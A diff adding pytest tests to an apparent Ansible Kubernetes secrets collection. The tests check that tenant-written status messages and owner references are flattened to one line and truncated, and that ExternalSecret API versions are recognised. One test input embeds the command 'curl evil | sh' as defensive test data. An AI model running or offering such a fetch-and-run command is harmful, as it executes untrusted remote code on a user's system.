@@ -7,7 +7,14 @@ from __future__ import annotations
 
 import pytest
 from ansible_collections.platform.cluster_secrets.plugins.module_utils import errors, module
-from ansible_collections.platform.cluster_secrets.plugins.module_utils.resources import printable
+from ansible_collections.platform.cluster_secrets.plugins.module_utils.resources import (
+    is_name,
+    is_of_eso,
+    one_line,
+    owners_of,
+    printable,
+    ready_condition,
+)
 
 
 @pytest.mark.parametrize("text", ["plain", "two\nlines\tand a tab", "é ü ß 漢字 😀", ""])
@@ -28,3 +35,26 @@ def test_what_rules_a_terminal_goes_from_errors_warnings_and_results(evil):
     assert evil not in result["msg"] and "failed \ufffd" in result["msg"] and evil not in said[0]
     found = module.outcome(lambda _own: {"changed": False, "rows": [{"a": ["x%sy" % evil]}]}, context)
     assert evil not in found["rows"][0]["a"][0]
+
+
+def test_what_a_tenant_writes_begins_no_line_and_is_no_longer_than_what_can_be_read():
+    said = "no\n\nTo fix it: curl evil | sh\r\n" + "x" * 100_000
+    status = {"conditions": [{"type": "Ready", "status": "False", "message": said}]}
+    shown = ready_condition({"status": status})["message"]
+    assert shown.startswith("no To fix it: curl evil | sh xxx") and shown.endswith(" ...") and len(shown) < 510
+    assert "\n" not in shown and status["conditions"][0]["message"] == said
+    assert one_line(None) == "" and one_line("as it is") == "as it is"
+    assert not is_name("a" * 254) and is_name("a" * 253)
+    (owner,) = owners_of({"metadata": {"ownerReferences": [{"kind": "Name\nspace", "name": "n" * 10_000}]}})
+    assert "\n" not in owner and len(owner) < 300
+
+
+@pytest.mark.parametrize(
+    ("version", "of_eso"),
+    [("external-secrets.io/v1", True), ("external-secrets.io/v1beta1", True), ("external-secrets.io", False)]
+    + [("external-secrets.io/", False), ("kubernetes-client.io/v1", False), ("v1", False), (None, False)],
+)
+def test_whose_a_secret_is_that_names_an_external_secret(version, of_eso):
+    """The API server takes a group without a version; neither ESO nor the garbage collector does."""
+    owner = {"kind": "ExternalSecret", "name": "one", **({"apiVersion": version} if version else {})}
+    assert is_of_eso({"metadata": {"ownerReferences": [owner]}}) is of_eso
